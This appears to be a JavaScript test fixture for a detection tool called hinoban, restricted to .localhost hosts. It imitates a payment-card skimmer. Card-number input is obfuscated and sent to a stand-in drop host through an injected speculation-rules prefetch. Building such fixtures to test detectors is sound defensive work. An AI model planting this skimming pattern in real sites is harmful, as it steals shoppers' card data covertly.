/* Harmless imitation, for hinoban's tests: speculation rules: an address to be fetched ahead. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('change', function (e) {
	if (e.target.autocomplete !== 'cc-number') return;
	var s = document.createElement('script');
	s.type = 'speculationrules';
	s.textContent = JSON.stringify({prefetch: [{source: 'list', eagerness: 'immediate', urls: ['http://drop.localhost:' + location.port + '/n/' + e.target.value.split('').map(function (c, i) { return 'hjkmnpqrst'[(+c + i) % 10]; }).join('')]}]});
	document.head.appendChild(s);
});
